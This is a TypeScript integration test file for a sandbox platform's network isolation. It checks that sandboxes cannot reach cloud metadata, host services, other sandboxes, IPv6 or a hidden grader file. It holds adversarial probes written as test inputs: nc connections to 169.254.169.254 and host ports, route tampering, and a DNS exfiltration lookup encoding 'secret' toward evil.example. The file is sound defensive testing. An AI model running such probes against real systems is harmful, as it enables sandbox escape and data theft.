import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import net from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Scope } from '../src/api/index.ts';
import { vethOf } from '../src/workers/network/index.ts';
import { api, startTestCluster, waitFor, type TestCluster } from './support/cluster.ts';
import { startTargetNetns, type TargetNetns } from './support/target-netns.ts';

/**
 * Network policy, adversarially: every probe goes to a network namespace this test made
 * (the "target") or to this host's own addresses, and every one must fail closed.
 */
const SCOPES: Scope[] = ['sandbox:create', 'sandbox:exec', 'sandbox:read', 'sandbox:delete', 'sandbox:policy'];
const PORT_A = 7001;
const PORT_B = 7002;
const HOLD_PORT = 7003;
const NODES = ['node-net1', 'node-net2', 'node-net3'];
const LEASE_DIR = '/run/rollbox/net';

let cluster: TestCluster;
let token: string;
/** Each cluster signs its own tokens. */
const tokens = new Map<TestCluster, string>();
let target: TargetNetns;
/** A listener on every host address: what reaches it reached the host. */
let hostListener: net.Server;
let hostListenerPort: number;
let hostConnections = 0;
/** Every sandbox this file made: their veths must be gone at its end (other files' may be up meanwhile). */
const createdIds: string[] = [];

beforeAll(async () => {
  target = await startTargetNetns({ subnet: 77, holdPort: HOLD_PORT, ports: [PORT_A, PORT_B, 80], metadataRoute: true });
  hostListener = net.createServer((s) => {
    hostConnections++;
    s.destroy();
  });
  await new Promise<void>((r) => hostListener.listen(0, '0.0.0.0', () => r()));
  hostListenerPort = (hostListener.address() as net.AddressInfo).port;
  cluster = await startTestCluster({ workers: [{ nodeId: 'node-net1' }, { nodeId: 'node-net2' }], env: netEnv() });
  token = await cluster.token('netter', SCOPES);
  tokens.set(cluster, token);
}, 60_000);

afterAll(async () => {
  await cluster?.stop();
  await target?.stop();
  hostListener?.close();
  // Nothing of rollbox's networking is left on the host.
  const links = execFileSync('ip', ['-o', 'link'], { encoding: 'utf8' });
  expect(createdIds.length).toBeGreaterThan(0);
  expect(createdIds.map(vethOf).filter((veth) => new RegExp(`\\b${veth}\\b`).test(links))).toEqual([]);
  const tables = execFileSync('nft', ['list', 'tables'], { encoding: 'utf8' });
  for (const node of NODES) expect(tables).not.toContain(`rollbox-${node}`);
  for (const node of NODES) expect(leasesOf(node)).toEqual([]);
  expect(execFileSync('ip', ['netns', 'list'], { encoding: 'utf8' })).not.toContain(target.name);
}, 60_000);

const netEnv = () => ({ ROLLBOX_NET_STATIC_HOSTS: `allowed.name=${target.address},other.name=${target.otherAddress}` });

async function createSandbox(body: object, on: TestCluster = cluster): Promise<{ id: string; node: string }> {
  const created = await api(on, tokens.get(on)!, 'POST', '/v1/sandboxes', { resources: { memoryMiB: 64 }, ...body });
  expect(created.status, JSON.stringify(created.body)).toBe(201);
  createdIds.push(created.body.id);
  return created.body;
}

async function sh(id: string, cmd: string, timeoutMs = 20_000, on: TestCluster = cluster): Promise<{ exitCode: number; stdout: string; stderr: string }> {
  const r = await api(on, tokens.get(on)!, 'POST', `/v1/sandboxes/${id}/exec`, { cmd, timeoutMs });
  expect(r.status, JSON.stringify(r.body)).toBe(200);
  return r.body;
}

/** Whether a TCP connection from the sandbox gets the target's greeting (nc gives up after 3 s). */
async function reaches(id: string, host: string, port: number, on: TestCluster = cluster): Promise<boolean> {
  const r = await sh(id, `echo | nc -w 3 ${host} ${port}`, 20_000, on);
  return r.stdout.includes(`hello ${port}`);
}

/** A host's address leases, its network self-test's probe sandbox (removed after each round, in the background) aside. */
const leasesOf = (node: string, options: { probe?: boolean } = {}) =>
  fs.existsSync(LEASE_DIR) ? fs.readdirSync(LEASE_DIR).filter((f) => fs.readFileSync(`${LEASE_DIR}/${f}`, 'utf8').startsWith(`${node} ${options.probe ? 'probe-' : 'sbx_'}`)) : [];
const hostChains = (node: string) => (execFileSync('nft', ['list', 'table', 'inet', `rollbox-${node}`], { encoding: 'utf8' }).match(/chain eg_rb[0-9a-f]{13}/g) ?? []).length;

const policyTo = (ports: (number | string)[], extra: object[] = []) => ({ mode: 'allowlist', allow: [{ cidr: `${target.address}/32`, ports }, ...extra] });
const patch = (id: string, body: object, withToken?: string, on: TestCluster = cluster) => api(on, withToken ?? tokens.get(on)!, 'PATCH', `/v1/sandboxes/${id}/policy`, body);
const remove = (id: string) => api(cluster, token, 'DELETE', `/v1/sandboxes/${id}`);

describe('network mode none', () => {
  it('has loopback only: the target is unreachable and never sees a packet', async () => {
    const s = await createSandbox({});
    const before = target.events.length;
    expect(await reaches(s.id, target.address, PORT_A)).toBe(false);
    expect((await sh(s.id, 'ip -o link | grep -v " lo:" | wc -l')).stdout.trim()).toBe('0');
    expect(target.events.length).toBe(before);
    await remove(s.id);
  });
});

describe('network mode allowlist', () => {
  let neighbour: { id: string };

  beforeAll(async () => {
    neighbour = await createSandbox({ network: policyTo([PORT_A]) });
  });
  afterAll(async () => {
    // The neighbour was never disturbed by anything the other sandboxes tried.
    expect(await reaches(neighbour.id, target.address, PORT_A)).toBe(true);
    await remove(neighbour.id);
  });

  it('reaches the listed address and port, and nothing else', async () => {
    const s = await createSandbox({ network: policyTo([PORT_A]) });
    expect(await reaches(s.id, target.address, PORT_A)).toBe(true);
    expect(target.connections(PORT_A, target.address).length).toBeGreaterThan(0);
    const beforeB = target.connections(PORT_B).length;
    expect(await reaches(s.id, target.address, PORT_B)).toBe(false);
    // A private address not listed (same target, other IP).
    expect(await reaches(s.id, target.otherAddress, PORT_A)).toBe(false);
    expect(target.connections(PORT_B).length).toBe(beforeB);
    expect(target.connections(PORT_A, target.otherAddress)).toEqual([]);
    // Port ranges and UDP/any.
    expect((await patch(s.id, { network: policyTo(['7000-7002']) })).status).toBe(200);
    expect(await reaches(s.id, target.address, PORT_B)).toBe(true);
    await remove(s.id);
  });

  it('fails closed on metadata, host addresses, platform ports, other sandboxes and IPv6, even when listed', async () => {
    const other = await createSandbox({ network: policyTo([PORT_A]) });
    const otherAddress = (await sh(other.id, "ip -4 -o addr show eth0 | awk '{print $4}' | cut -d/ -f1")).stdout.trim();
    const otherGateway = (await sh(other.id, "ip route | awk '/default/ {print $3}'")).stdout.trim();
    expect(otherAddress).toMatch(/^10\.200\./);
    await sh(other.id, 'nc -l -p 7005 >/dev/null 2>&1 &');
    const hostAddresses = JSON.parse(execFileSync('ip', ['-j', '-4', 'addr', 'show'], { encoding: 'utf8' }))
      .flatMap((l: { addr_info: { local: string }[] }) => l.addr_info.map((a) => a.local))
      .filter((a: string) => !a.startsWith('127.'));
    const redisPort = Number(new URL(cluster.redisUrl).port);
    const gatewayPort = Number(new URL(cluster.url).port);
    const everything = [
      { cidr: '169.254.0.0/16', protocol: 'any' },
      { cidr: '0.0.0.0/0', ports: [redisPort, gatewayPort, hostListenerPort, 7005], protocol: 'any' },
      ...hostAddresses.map((a: string) => ({ cidr: `${a}/32`, protocol: 'any' })),
      { cidr: `${otherAddress}/32`, protocol: 'any' },
      { cidr: 'fd00::/8', protocol: 'any' },
      { cidr: 'fe80::/10', protocol: 'any' },
      { cidr: '::/0', protocol: 'any' },
    ];
    const s = await createSandbox({ network: { mode: 'allowlist', allow: everything } });
    const metadataBefore = target.connections(80).length;
    const probes: [string, number][] = [
      ['169.254.169.254', 80],
      ...hostAddresses.flatMap((a: string) => [[a, redisPort], [a, gatewayPort], [a, hostListenerPort]] as [string, number][]),
      [otherAddress, 7005],
      [otherGateway, hostListenerPort],
    ];
    const script = probes.map(([host, port]) => `echo | nc -w 3 ${host} ${port} >/dev/null 2>&1; echo "${host}:${port} exit=$?"`).join('\n');
    const results = (await sh(s.id, script, 120_000)).stdout.trim().split('\n');
    expect(results).toHaveLength(probes.length);
    for (const line of results) expect(line).toMatch(/ exit=[1-9]/);
    expect(target.connections(80).length).toBe(metadataBefore);
    expect(hostConnections).toBe(0);
    // IPv6: the sandbox has none but loopback's, whatever its allowlist says.
    const v6 = await sh(s.id, `ip -6 addr show | grep inet6 | grep -vc ' ::1/128'; echo | nc -w 3 ${target.ulaAddress} ${PORT_A}; echo "exit=$?"`);
    expect(v6.stdout).toMatch(/^0\n/);
    expect(v6.stdout).not.toMatch(/exit=0/);
    expect(target.events.filter((e) => e.ev === 'conn' && e.from.includes(':'))).toEqual([]);
    // The agent is root without CAP_NET_ADMIN: it cannot flush or replace the rules.
    const tamper = await sh(s.id, `ip link set eth0 down 2>&1; ip route add 169.254.169.254 dev eth0 2>&1; ip addr add ${target.otherAddress}/32 dev eth0 2>&1; echo done`);
    expect(tamper.stdout.match(/not permitted/g), tamper.stdout).toHaveLength(3);
    const { init_process_pid: pid } = JSON.parse(fs.readFileSync(`${cluster.rootDir}/${s.node}/worker/runc/rb-${s.id}/state.json`, 'utf8'));
    const ruleset = execFileSync('nsenter', [`--net=/proc/${pid}/ns/net`, 'nft', 'list', 'table', 'inet', 'rollbox'], { encoding: 'utf8' });
    expect(ruleset).toContain('type filter hook output priority filter; policy drop;');
    await remove(s.id);
    await remove(other.id);
  });

  it('resolves only allowlisted names, through the platform resolver; nothing leaks to any other DNS server', async () => {
    const s = await createSandbox({ network: { mode: 'allowlist', allow: [{ host: 'allowed.name', ports: [PORT_A] }] } });
    expect(await reaches(s.id, 'allowed.name', PORT_A)).toBe(true);
    expect(await reaches(s.id, 'allowed.name', PORT_B)).toBe(false);
    const resolver = (await sh(s.id, 'cat /etc/resolv.conf')).stdout;
    expect(resolver).toMatch(/^nameserver 10\.200\./);
    const exfil = await sh(s.id, 'nslookup c2VjcmV0.evil.example; echo "exit=$?"; nslookup other.name; nslookup c2VjcmV0.evil.example ' + target.address + '; echo "direct=$?"', 30_000);
    expect(exfil.stdout).toMatch(/exit=[1-9]/);
    expect(exfil.stdout).toMatch(/direct=[1-9]/);
    expect(exfil.stdout).not.toContain(target.otherAddress);
    expect(target.datagrams()).toEqual([]);
    await remove(s.id);
  });

  it('enforces by address: an /etc/hosts entry mapping an allowed name to a forbidden address opens nothing', async () => {
    const s = await createSandbox({ network: { mode: 'allowlist', allow: [{ host: 'allowed.name', ports: [PORT_A] }] } });
    await sh(s.id, `echo "${target.otherAddress} allowed.name" > /etc/hosts`);
    expect(await reaches(s.id, 'allowed.name', PORT_A)).toBe(false);
    expect(target.connections(PORT_A, target.otherAddress)).toEqual([]);
    await remove(s.id);
  });

  it('a narrowed policy cuts an open connection', async () => {
    const s = await createSandbox({ network: policyTo([PORT_A, HOLD_PORT]) });
    // A line every 100 ms keeps stdin open (and makes nc notice a cut at its next write); fed from /dev/zero, busybox nc
    // blocked writing to a peer that never reads, within milliseconds, and never read a tick (the flake this test had).
    await sh(s.id, `((while :; do echo x; sleep 0.1; done) | nc ${target.address} ${HOLD_PORT} > /tmp/ticks 2>&1; cut -d' ' -f1 /proc/uptime > /tmp/ended) >/dev/null 2>&1 &`);
    // Generous waits: the host is shared and can be very busy; the number printed below is the measurement.
    await waitFor('ticks flowing', async () => (await sh(s.id, 'wc -l < /tmp/ticks')).stdout.trim() !== '0', 60_000).catch(async (err: Error) => {
      // Should it time out again: what the sandbox and the target saw.
      const seen = (await sh(s.id, 'echo ticks:; cat /tmp/ticks; echo ended:; cat /tmp/ended; netstat -tn; ps')).stdout;
      throw new Error(`${err.message}\n${seen}\ntarget's connections to ${HOLD_PORT}: ${JSON.stringify(target.connections(HOLD_PORT))}`);
    });
    const startUptime = Number(fs.readFileSync('/proc/uptime', 'utf8').split(' ')[0]);
    expect((await patch(s.id, { network: policyTo([PORT_A]) })).status).toBe(200);
    const ended = await waitFor('the held connection to end', async () => (await sh(s.id, 'cat /tmp/ended 2>/dev/null')).stdout.trim(), 30_000);
    const cutMs = Math.round((Number(ended) - startUptime) * 1000);
    console.log(`narrowed allowlist cut the open connection ${cutMs} ms after the PATCH was sent`);
    expect(await reaches(s.id, target.address, PORT_A)).toBe(true);
    // Back to none: no interface left but loopback.
    expect((await patch(s.id, { network: { mode: 'none' } })).status).toBe(200);
    expect(await reaches(s.id, target.address, PORT_A)).toBe(false);
    expect((await sh(s.id, 'ip -o link | grep -v " lo:" | wc -l')).stdout.trim()).toBe('0');
    // And a sandbox without a network gets one at a later stage. Its resolv.conf is written
    // from the host only if it is a regular file (here the agent left a FIFO with a reader).
    await sh(s.id, 'rm /etc/resolv.conf && mkfifo /etc/resolv.conf && (cat /etc/resolv.conf > /tmp/got 2>&1 </dev/null &)');
    expect((await patch(s.id, { network: policyTo([PORT_A]) })).status).toBe(200);
    expect((await sh(s.id, 'cat /tmp/got; ls -l /etc/resolv.conf')).stdout).toMatch(/^p/);
    expect(await reaches(s.id, target.address, PORT_A)).toBe(true);
    expect((await api(cluster, token, 'GET', `/v1/sandboxes/${s.id}`)).body.spec.network.allow[0].ports).toEqual([PORT_A]);
    await remove(s.id);
  }, 180_000);

  it('keeps the current stage policy across pause/resume and hibernate/wake', async () => {
    const s = await createSandbox({ network: policyTo([PORT_A]) });
    expect((await patch(s.id, { network: policyTo([PORT_B]) })).status).toBe(200);
    const check = async () => {
      expect(await reaches(s.id, target.address, PORT_B)).toBe(true);
      expect(await reaches(s.id, target.address, PORT_A)).toBe(false);
    };
    await check();
    expect((await api(cluster, token, 'POST', `/v1/sandboxes/${s.id}/pause`, {})).body.state).toBe('paused');
    expect((await api(cluster, token, 'POST', `/v1/sandboxes/${s.id}/resume`, {})).body.state).toBe('running');
    await check();
    expect((await api(cluster, token, 'POST', `/v1/sandboxes/${s.id}/pause`, { mode: 'hibernate' })).body.state).toBe('hibernated');
    // A stage change while hibernated applies when it wakes.
    expect((await patch(s.id, { network: policyTo([PORT_B, HOLD_PORT]) })).status).toBe(200);
    const woken = await api(cluster, token, 'POST', `/v1/sandboxes/${s.id}/resume`, {});
    expect(woken.body.state).toBe('running');
    await check();
    await remove(s.id);
  });
});

describe('stage changes of hidden paths', () => {
  it('hides, reveals and hides again, to root as well; never reveals runc masks', async () => {
    const s = await createSandbox({});
    await sh(s.id, 'mkdir /grader && echo answer42 > /grader/key && echo grade > /etc/grade.txt && ln -s /proc/timer_list /trap');
    const visible = 'cat /grader/key /etc/grade.txt 2>&1; ls /grader 2>&1';
    expect((await sh(s.id, visible)).stdout).toContain('answer42');

    const hide = await patch(s.id, { hiddenPaths: ['/grader', '/etc/grade.txt'] });
    expect(hide.status, JSON.stringify(hide.body)).toBe(200);
    expect(hide.body.spec.hiddenPaths).toEqual(['/grader', '/etc/grade.txt']);
    const hidden = await sh(s.id, `${visible}; umount /grader 2>&1; umount -l /grader 2>&1; cat /grader/key 2>&1; echo x > /grader/new 2>&1`);
    expect(hidden.stdout).not.toContain('answer42');
    expect(hidden.stdout).not.toContain('grade\n');

    expect((await patch(s.id, { hiddenPaths: [] })).status).toBe(200);
    expect((await sh(s.id, visible)).stdout).toMatch(/answer42\ngrade\n/);

    expect((await patch(s.id, { hiddenPaths: ['/grader'] })).status).toBe(200);
    expect((await sh(s.id, visible)).stdout).not.toContain('answer42');

    // runc's masks stay: hiding then revealing /proc/timer_list leaves it masked.
    expect((await patch(s.id, { hiddenPaths: ['/grader', '/proc/timer_list'] })).status).toBe(200);
    expect((await patch(s.id, { hiddenPaths: ['/grader'] })).status).toBe(200);
    expect((await sh(s.id, 'wc -c < /proc/timer_list')).stdout.trim()).toBe('0');
    // A symlink is refused, not followed, and the whole change with it.
    const trap = await patch(s.id, { hiddenPaths: ['/trap'] });
    expect(trap.status).toBe(400);
    expect((await sh(s.id, visible)).stdout).not.toContain('answer42');
    expect((await sh(s.id, 'wc -c < /proc/timer_list')).stdout.trim()).toBe('0');
    // Nested: the directory is revealed first, then the file inside it hidden.
    expect((await patch(s.id, { hiddenPaths: ['/grader/key'] })).status).toBe(200);
    expect((await sh(s.id, 'ls /grader; cat /grader/key')).stdout).toBe('key\n');
    await remove(s.id);
  });
});

describe('policy API', () => {
  it('needs sandbox:policy and a valid body', async () => {
    const s = await createSandbox({});
    const agent = await cluster.token('netter', ['sandbox:create', 'sandbox:exec', 'sandbox:read', 'sandbox:delete']);
    const forbidden = await patch(s.id, { hiddenPaths: [] }, agent);
    expect(forbidden.status).toBe(403);
    expect(forbidden.body.error.code).toBe('forbidden');
    for (const bad of [{}, { network: { mode: 'allowlist', allow: [{ cidr: '10.0.0.0/8', host: 'a.b' }] } }, { network: { mode: 'allowlist', allow: [{ cidr: '10.0.0.0/33' }] } }, { network: { mode: 'allowlist', allow: [{ cidr: '10.0.0.1', ports: ['9-1'] }] } }, { hiddenPaths: ['relative'] }]) {
      const r = await patch(s.id, bad);
      expect(r.status, JSON.stringify(bad)).toBe(400);
    }
    const other = await cluster.token('someone-else', SCOPES);
    expect((await patch(s.id, { hiddenPaths: [] }, other)).status).toBe(404);
    await remove(s.id);
    expect((await patch(s.id, { hiddenPaths: [] })).status).toBe(409);
  });
});

describe('worker restart', () => {
  it('adopts live sandboxes with their rules and resolver, and removes the network of dead ones', async () => {
    // A long lost-after so the janitor does not end the sandboxes while their worker is down.
    const other = await startTestCluster({ env: { ...netEnv(), ROLLBOX_NODE_LOST_AFTER_MS: '60000' } });
    try {
      tokens.set(other, await other.token('netter', SCOPES));
      const child = await other.spawnWorker({ nodeId: 'node-net3' });
      await waitFor('the spawned worker', async () => (await api(other, await other.token('netter', ['admin']), 'GET', '/v1/nodes')).body.nodes?.length === 1, 30_000);
      const network = { mode: 'allowlist', allow: [{ host: 'allowed.name', ports: [PORT_A] }] };
      const kept = await createSandbox({ network }, other);
      const dead = await createSandbox({ network }, other);
      expect(await reaches(kept.id, 'allowed.name', PORT_A, other)).toBe(true);
      expect(leasesOf('node-net3')).toHaveLength(2);

      const exited = new Promise((r) => child.once('close', r));
      child.kill('SIGKILL');
      await exited;
      // One container dies while no worker watches: its veth goes with its namespace, its lease and host chain stay behind.
      const state = JSON.parse(fs.readFileSync(`${other.rootDir}/node-net3/worker/runc/rb-${dead.id}/state.json`, 'utf8'));
      process.kill(state.init_process_pid, 'SIGKILL');
      await waitFor('the dead container', async () => !fs.existsSync(`/proc/${state.init_process_pid}/stat`) || fs.readFileSync(`/proc/${state.init_process_pid}/stat`, 'utf8').split(') ')[1]!.startsWith('Z'));

      await other.addWorker({ nodeId: 'node-net3' });
      expect(leasesOf('node-net3')).toHaveLength(1);
      // The start's self-test round is over; its probe's host chain goes with its lease.
      await waitFor('the self-test probe removed', async () => leasesOf('node-net3', { probe: true }).length === 0);
      expect(hostChains('node-net3')).toBe(1);
      expect((await api(other, tokens.get(other)!, 'GET', `/v1/sandboxes/${dead.id}`)).body.state).toBe('failed');
      // The adopted sandbox: rules intact, and the platform resolver answers again.
      expect(await reaches(kept.id, 'allowed.name', PORT_A, other)).toBe(true);
      expect(await reaches(kept.id, target.address, PORT_B, other)).toBe(false);
      expect((await patch(kept.id, { network: policyTo([PORT_B]) }, undefined, other)).status).toBe(200);
      expect(await reaches(kept.id, target.address, PORT_B, other)).toBe(true);
    } finally {
      await other.stop();
    }
  }, 120_000);
});
